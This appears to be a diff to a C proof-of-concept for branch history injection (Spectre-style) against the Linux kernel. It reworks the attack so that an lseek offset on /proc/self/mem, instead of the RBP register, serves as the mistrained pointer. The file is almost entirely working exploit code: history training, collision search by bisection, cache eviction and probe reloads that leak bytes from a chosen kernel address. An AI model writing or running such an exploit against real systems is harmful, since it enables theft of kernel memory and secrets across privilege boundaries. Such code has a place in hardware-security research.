@@ -2,12 +2,12 @@
  * Branch history injection (Barberis et al., 2022): the processor does not let user mode train
  * indirect branches of the kernel, but what user mode did is part of the history by which it chooses
  * among targets that the kernel itself has been to. The same call of the kernel goes to one program
- * with a task and to another with the caller's registers. After a history that collides with that of
- * a call with a task, the call with registers is predicted to go to the program for tasks, which
- * takes the caller's RBP for a pointer.
+ * with a name, and to another with what a system call returns. After a history that collides with
+ * that of a call with a name, the call with a result is predicted to go to the program for names,
+ * which takes the result for a pointer. What lseek of /proc/self/mem returns is its caller's choice.
  *
- * Which histories collide is found by trying: many calls with a task under different histories, then
- * calls with registers until one of them shows a byte that is known.
+ * Which histories collide is found by trying: many calls with a name under different histories, then
+ * calls with a result until one of them shows a byte that is known.
  */
 #include "attack.h"
 
@@ -21,30 +21,21 @@
 enum { HISTORIES = 256, TRIES = 512, ROUNDS = 6, PROGRAM_LINE = 0 };
 
 static const uint8_t *array;
+static int memory;
 static uint64_t trained[HISTORIES], trained_history, history;
 
-/* A system call after a history, with an RBP. */
-static void call_after(uint64_t bits, long number, long first, const void *second, uint64_t frame_pointer)
+/*
+ * The kernel calls the program for names. There is one copy of this function, because its own
+ * branches are in the histories, too.
+ */
+static __attribute__((noinline)) void call_with_name(uint64_t bits)
 {
 	leave_history(bits);
-	__asm__ volatile(
-		"push %%rbp\n\t"
-		"mov %[frame_pointer], %%rbp\n\t"
-		"syscall\n\t"
-		"pop %%rbp\n\t"
-		: "+a"(number)
-		: "D"(first), "S"(second), [frame_pointer] "r"(frame_pointer)
-		: "rcx", "r11", "memory");
+	prctl(PR_SET_NAME, "task");
 }
 
-/* The kernel calls the program for tasks. */
-static void call_with_task(uint64_t bits)
-{
-	call_after(bits, SYS_prctl, PR_SET_NAME, "task", 0);
-}
-
-/* It calls the program for registers; returns what the other one has disclosed. */
-static int call_with_registers(uint64_t bits, uint64_t address)
+/* It calls the program for results; returns what the other one has disclosed. Likewise. */
+static __attribute__((noinline)) int call_with_result(uint64_t bits, uint64_t address)
 {
 	const uint8_t *probe = array + SHARED_PROBE;
 
@@ -52,14 +43,15 @@ static int call_with_registers(uint64_t bits, uint64_t address)
 	flush_probe(probe);
 	/* The address of the program to call is in the first line of a page. */
 	evict(PROGRAM_LINE, second_level_pages);
-	call_after(bits, SYS_getppid, 0, NULL, address);
+	leave_history(bits);
+	lseek(memory, address, SEEK_SET);
 	return reload_probe(probe);
 }
 
 static void train_histories(int from, int to)
 {
 	for (int i = from; i < to; i++)
-		call_with_task(trained[i]);
+		call_with_name(trained[i]);
 }
 
 /* Finds two histories that collide. */
@@ -72,21 +64,21 @@ static int find_collision(void)
 		int from = 0, to = HISTORIES;
 
 		history = next_random();
-		if (call_with_registers(history, options.known) != KNOWN_BYTE)
+		if (call_with_result(history, options.known) != KNOWN_BYTE)
 			continue;
 		/* Halves what it may collide with, until one is left. */
 		while (to - from > 1) {
 			int middle = (from + to) / 2;
 
 			train_histories(from, middle);
-			if (call_with_registers(history, options.known) == KNOWN_BYTE)
+			if (call_with_result(history, options.known) == KNOWN_BYTE)
 				to = middle;
 			else
 				from = middle;
 		}
 		trained_history = trained[from];
-		call_with_task(trained_history);
-		if (call_with_registers(history, options.known) == KNOWN_BYTE)
+		call_with_name(trained_history);
+		if (call_with_result(history, options.known) == KNOWN_BYTE)
 			return 1;
 	}
 	return 0;
@@ -95,8 +87,8 @@ static int find_collision(void)
 static int sample(int index)
 {
 	use_secret(index);
-	call_with_task(trained_history);
-	return call_with_registers(history, options.address + index);
+	call_with_name(trained_history);
+	return call_with_result(history, options.address + index);
 }
 
 int main(int argc, char **argv)
@@ -106,10 +98,13 @@ int main(int argc, char **argv)
 		errx(2, "expected --address and --known");
 	open_secret();
 	array = map_gadget(options.gadget);
+	memory = open("/proc/self/mem", O_RDONLY);
+	if (memory < 0)
+		err(1, "/proc/self/mem");
 	calibrate();
 	prepare_eviction();
 	for (int i = 0; i < ROUNDS && !find_collision(); i++)
 		;
-	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
+	recover(sample, (struct patience){ .samples = 16, .lead = 2 }, 1);
 	return 0;
 }
